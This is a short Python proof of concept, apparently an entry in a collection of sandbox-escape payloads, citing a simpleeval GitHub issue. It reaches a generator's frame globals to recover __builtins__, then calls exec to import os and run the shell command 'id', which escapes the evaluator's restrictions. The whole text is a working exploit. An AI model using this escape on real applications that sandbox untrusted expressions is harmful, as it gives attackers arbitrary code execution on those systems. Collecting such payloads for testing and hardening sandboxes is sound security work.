# Source: https://github.com/danthedeckie/simpleeval/issues/138
# Family: frame
# What: generator.gi_frame.f_globals['__builtins__'] gives exec/__import__ without a name lookup
def bar():
    yield 1

b = bar().gi_frame.f_globals["__builtins__"]
b.exec("import os; os.system('id')")
